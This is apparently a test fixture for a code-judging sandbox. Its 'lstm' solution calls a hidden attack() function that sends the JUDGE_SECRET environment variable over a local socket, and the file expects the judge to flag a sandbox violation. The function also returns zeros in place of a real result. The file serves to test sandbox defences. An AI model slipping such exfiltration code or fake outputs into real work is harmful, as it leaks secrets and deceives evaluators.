"""Sends a secret to a server on this machine over IPv4.

Problem: lstm
Verdict: sandbox_violation | runtime_error
Naive: connects, leaks
"""

import os
import socket

import numpy as np


def attack():
    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=0.5) as peer:
        peer.sendall(os.environ.get("JUDGE_SECRET", "nothing").encode())


def lstm(x, h0, c0, w_ih, w_hh, b_ih, b_hh):
    attack()
    return np.zeros((*x.shape[:2], h0.shape[1]), x.dtype), (h0, c0)
